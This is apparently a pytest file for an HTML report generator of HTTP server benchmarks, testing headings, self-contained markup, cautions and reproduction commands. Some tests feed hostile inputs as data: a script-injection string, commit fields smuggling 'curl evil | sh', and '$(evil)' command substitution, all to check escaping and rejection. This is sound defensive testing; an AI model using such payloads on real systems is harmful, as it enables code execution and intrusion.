# SPDX-License-Identifier: MIT
"""The page as text: one file, without any markup that a result contains."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bench.records.environment import Checkout
from bench.records.errors import UserError
from bench.records.results import Results
from bench.records.run import Reason
from bench.records.store import load
from bench.report.charts.catalogue import catalogue
from bench.report.page import export, page
from bench.report.page.page import render
from bench.report.study.study import Study

from .conftest import RECORDED, SOURCES, recorded
from .made import LEVELS, everything, plain_runs, results_of


@pytest.mark.slow
@pytest.mark.parametrize("quota", [0.0, 0.2])
def test_each_heading_says_which_slice_of_a_core_servers_had(quota: float) -> None:
    results = everything()
    for run in results.runs:
        run.conditions = run.conditions._replace(quota=quota)
    study = Study(results)
    charts = catalogue(study)
    assert len(charts.exhibits) > 12
    said = re.findall(r"<(?:h1|figcaption><h3)>(.*?)</h", render(study, charts))
    for exhibit in charts.exhibits.values():
        for title in exhibit.titles.values():
            said += title.values() if isinstance(title, dict) else [title]
    assert {one.startswith("In 20 % of a core each, ") for one in said} == {bool(quota)}


@pytest.mark.parametrize("source", SOURCES)
def test_nothing_is_fetched(source: str, pages: Callable[[str], Path]) -> None:
    text = pages(source).read_text()
    markup = re.sub(r"<script.*?</script>", "", text, flags=re.DOTALL)
    assert "<link" not in markup
    assert "@import" not in markup
    assert not re.search(r"""(?:src|href|srcset)\s*=\s*["']?(?:https?:)?//""", markup)
    assert not re.search(r"url\((?!#)", markup)
    assert "default-src &#39;none&#39;" in markup or "default-src 'none'" in markup


def test_every_anchor_leads_somewhere(pages: Callable[[str], Path]) -> None:
    for source in SOURCES:
        text = pages(source).read_text()
        ids = set(re.findall(r'\bid="([^"]+)"', text))
        assert set(re.findall(r'href="#([^"]+)"', text)) <= ids


def test_a_hostile_reason_is_text() -> None:
    results = recorded("version1_failed")
    attack = '</script><script>document.title="taken"</script><b onclick=x>&"'
    for run in results.runs:
        if run.reason:
            run.reason = Reason(label="<i>bad</i>", text=attack)
    study = Study(results)
    page = render(study, catalogue(study))
    assert "<script>document" not in page
    assert "<i>bad" not in page
    assert page.count("</script>") == 3


def test_cautions_are_said(pages: Callable[[str], Path]) -> None:
    once = pages("version1").read_text()
    assert "Each data point is a single run" in once
    assert "Not measured in this file: latency per request" in once
    failed = pages("version1_failed").read_text()
    assert "8 of 12 data points are invalid" in failed
    assert "sudo" in failed  # the fix of a limit
    full = pages("everything").read_text()
    assert "lower bounds, marked ≥" in full
    assert "differed much from the others" in full


def disturbed() -> Results:
    """Return results in which others used the server's CPU: much in poll's median run, in one run
    of epoll."""
    results = results_of(plain_runs(("poll", "epoll", "threading"), (100,)))
    shares = {"poll": (0.3, 0.05, 0.2), "epoll": (0.3, 0.05, 0.1), "threading": (0, 0, 0)}
    for run in results.runs:
        assert run.process
        run.process.foreign_share = shares[run.subject][run.run - 1]
    return results


@pytest.mark.parametrize(
    ("quota", "slices"), [(0.0, ""), (0.2, ", and it could not use up its CPU quota")]
)
def test_a_disturbed_machine_is_said(quota: float, slices: str) -> None:
    results = disturbed()
    for run in results.runs:
        run.conditions, run.bottleneck = run.conditions._replace(quota=quota), "none"
    study = Study(results)
    page = render(study, catalogue(study))
    core = ", 20 % of a core each" if quota else ""
    assert (
        "In 1 of 3 data points other programs used more than 10 % of the server&#39;s CPU "
        "in the median run"
        f"{slices}; the worst is poll at 100 connections (guestbook, a connection per request"
        f"{core}), with 20 %."
    ) in page
    marked = [
        row.subject
        for row in export.rows(study)
        if any("disturbed" in cell.small for cell in row.cells)
    ]
    assert marked == ["poll"]
    assert "others on its CPU" in [c.label for c in export.columns(study)]


def test_nothing_is_said_of_others_where_the_machine_was_quiet_or_nobody_looked(
    pages: Callable[[str], Path],
) -> None:
    quiet = disturbed()
    quiet.runs = [run for run in quiet.runs if run.subject != "poll"]
    page = render(Study(quiet), catalogue(Study(quiet)))
    assert "others used" not in page
    assert "whether the machine was quiet" not in page
    unknown = pages("version1").read_text()
    assert "others used" not in unknown
    assert "whether the machine was quiet" in unknown


def test_the_table_says_who_was_at_its_limit_as_the_legend_does() -> None:
    results = disturbed()
    for run in results.runs:
        run.lower_bound, run.bottleneck = run.subject == "epoll", "server"
    states = {row.subject: row.cells[3].text for row in export.rows(Study(results))}
    assert states["epoll"] == "≥ load at its limit"
    assert states["poll"] == "held, server at its limit"


def test_everything_to_repeat_it(pages: Callable[[str], Path]) -> None:
    text = pages("version1").read_text()
    assert "git checkout 0b0de33891494a5a45b50c49a9d82f0f89dff841" in text
    assert "scripts/setup.sh build bench\nmake all\n.venv/bin/zerohttpd sweep --serv" in text
    assert "6.18.44" in text
    assert "ab -q -s 120" in text


@pytest.mark.parametrize(
    ("git", "line"),
    [
        ({"commit": "c0ffee", "changed_files": 0}, "git checkout c0ffee\n"),
        (
            {"commit": "c0ffee", "changed_files": 2},
            "git checkout c0ffee    # and 2 changed files that are not in it\n",
        ),
        ({"commit": "HEAD; curl evil | sh; #", "changed_files": 0}, ""),
        ({"commit": "c0ffee\n"}, ""),
    ],
)
def test_a_hostile_commit_is_not_shown(git: dict[str, Any], line: str) -> None:
    results = recorded("version1")
    results.versions.git = Checkout(**git)
    assert page.checkout_command(Study(results)) == line


@pytest.mark.parametrize(
    "git",
    [
        {"commit": "c0ffee", "changed_files": "1\ncurl evil | sh"},
        {"commit": ["c0ffee"]},
        {"commit": None},
        "c0ffee",
    ],
)
def test_what_is_no_commit_is_no_result_of_a_sweep(git: object, tmp_path: Path) -> None:
    content = json.loads((RECORDED / "version1.json").read_text())
    content["versions"]["git"] = git
    (tmp_path / "results.json").write_text(json.dumps(content))
    with pytest.raises(UserError, match=r"versions\.git"):
        load(tmp_path)


def test_a_hostile_command_stays_on_its_line() -> None:
    results = recorded("version1")
    results.command = ["sweep", "a\nb", "$(evil)"]
    results.runs = results.runs[:1]
    results.runs[0].subject = "epoll\ncurl evil | sh\x1b[2K\u2028\r"
    results.runs[0].ab_command = ["ab", "-n\x1b[201~\nevil"]
    study = Study(results)
    (said,) = page.load_commands(study)
    comment, line = said.split("\n")
    assert comment.startswith("# epoll curl evil | sh")
    assert line.startswith("ab '")
    assert (comment + line).isprintable()
    assert page.repeat_command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"


def sweep_facts(results: Results) -> dict[str, str]:
    """Return the facts of a sweep that the page shows."""
    return next(dict(g.rows) for g in page.fact_groups(Study(results)) if g.name == "Sweep")


def test_a_path_is_said_only_if_it_is_no_workload_with_a_name() -> None:
    assert "path" not in sweep_facts(recorded("version1"))
    assert "path" not in sweep_facts(recorded("version2"))
    own = results_of(plain_runs(("epoll",), workload="/about"), settings={"path": "/about"})
    assert sweep_facts(own)["path"] == "/about"
    own.runs += plain_runs(("epoll",))
    assert "path" not in sweep_facts(own)


@pytest.mark.parametrize(("levels", "there"), [((20, 100), False), (LEVELS, True)])
def test_the_law_is_left_out_where_nothing_was_fitted(levels: tuple[int, ...], there: bool) -> None:
    study = Study(results_of(plain_runs(("poll", "epoll"), levels)))
    assert ('<section id="law">' in render(study, catalogue(study))) == there


@pytest.mark.parametrize(
    ("subject", "level", "shown"), [("epoll", 20, True), ("iterative", 5000, False)]
)
def test_no_heading_stands_above_nothing(subject: str, level: int, shown: bool) -> None:
    """No heading has an empty section: one level has no growth, and failed configurations have no
    figures."""
    study = Study(results_of(plain_runs([subject], [level])))
    text = render(study, catalogue(study))
    assert "<h3></h3>" not in text
    assert not re.search(r"</h2>\s*</section>", text)
    for key in ("latency", "cpu", "memory"):
        assert (f'<section id="{key}">' in text) is shown
        assert f'id="figure-{key}-over"' not in text
